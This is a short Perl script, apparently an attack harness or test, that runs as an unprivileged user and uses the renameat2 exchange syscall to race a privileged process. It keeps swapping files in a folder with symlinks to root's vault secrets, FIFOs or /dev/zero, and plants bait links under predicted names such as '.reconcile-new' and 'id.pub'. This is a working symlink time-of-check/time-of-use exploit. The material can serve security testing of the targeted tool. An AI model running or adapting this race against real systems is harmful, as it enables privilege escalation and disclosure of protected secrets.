# exchange.pl FOLDER NAME...: exchanges each name with a link to root's files, to a pipe or to an endless device,
# until FOLDER/.on is gone; what is read of names that are exchanged in between is the race of all races.
# Prints how often. Run as an account without rights; renameat2(2) has no command in coreutils.
use strict;
my ($folder, @names) = @ARGV;
my %number = (x86_64 => 316, aarch64 => 276);
chomp(my $machine = `uname -m`);
my $renameat2 = $number{$machine} or die "no number of renameat2 for $machine";
my @leads = ("/root/vault/secret", "/etc/vault/open", "/root/vault", "/etc/vault", "/dev/zero", "", "/etc/vault/new");
my ($done, $turns) = (0, 0);
while (-e "$folder/.on") {
    my $lead = $leads[int($turns++ / 400) % @leads];
    for my $name (@names) {
        my ($here, $there) = ("$folder/$name", "$folder/.other $name");
        if ($turns % 400 == 1) {
            # The pair is in the one place or in the other: what is no file or folder of a step is the bait.
            for my $each ($there, $here) {
                if (-l $each or -p $each) { unlink $each; last; }
            }
            if ($lead) { symlink $lead, $there; } else { system "mkfifo", "-m", "666", $there; }
            # Names that a step may be about to use.
            symlink "/etc/vault/open", "$here.reconcile-new";
            symlink "/etc/vault/new", "$here.pub" if $name eq "id";
        }
        $done++ if syscall($renameat2, -100, $here, -100, $there, 2) == 0;
        symlink $lead || "/etc/vault/open", $here unless -l $there or -p $there or -e $here;
    }
}
print "$done\n";
